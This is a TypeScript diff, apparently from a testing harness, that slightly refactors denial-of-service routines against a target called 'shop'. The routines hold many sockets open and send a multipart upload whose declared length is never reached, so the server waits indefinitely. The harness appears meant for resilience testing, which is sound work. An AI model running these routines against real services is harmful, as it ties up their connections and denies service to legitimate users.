@@ -30,7 +30,7 @@ function hold({ port }: Target, { address, count, open }: Holding): Hostile {
       clearInterval(again);
       for (const socket of sockets) socket.removeAllListeners('close').destroy();
     },
-    said: () => `${opened} sockets, ${closedByShop} closed by the shop`,
+    said: () => `${opened} sockets, of which ${closedByShop} were seen closed`,
   };
 }
 
@@ -62,7 +62,7 @@ export const neverReading: Attack = {
     }),
 };
 
-const UPLOAD_BYTES = 10 * 1024 * 1024;
+const picture = Buffer.alloc(10 * 1024 * 1024, 7);
 
 /** Of everything but its last bytes; the form never ends. */
 function withheldUpload(path: string, token: string): (socket: Socket) => void {
@@ -70,7 +70,7 @@ function withheldUpload(path: string, token: string): (socket: Socket) => void {
     ...['--x', 'Content-Disposition: form-data; name="image"; filename="a.jpg"', 'Content-Type: image/jpeg'],
     '\r\n',
   ].join('\r\n');
-  const length = head.length + UPLOAD_BYTES + 1_000;
+  const length = head.length + picture.length + 1_000;
   const request = [
     ...[`POST ${path} HTTP/1.1`, 'Host: shop', `Authorization: Bearer ${token}`],
     ...['Content-Type: multipart/form-data; boundary=x', `Content-Length: ${length}`, '', head],
@@ -78,7 +78,7 @@ function withheldUpload(path: string, token: string): (socket: Socket) => void {
   return (socket) => {
     socket.resume();
     socket.write(request);
-    socket.write(Buffer.alloc(UPLOAD_BYTES, 7));
+    socket.write(picture);
   };
 }
 
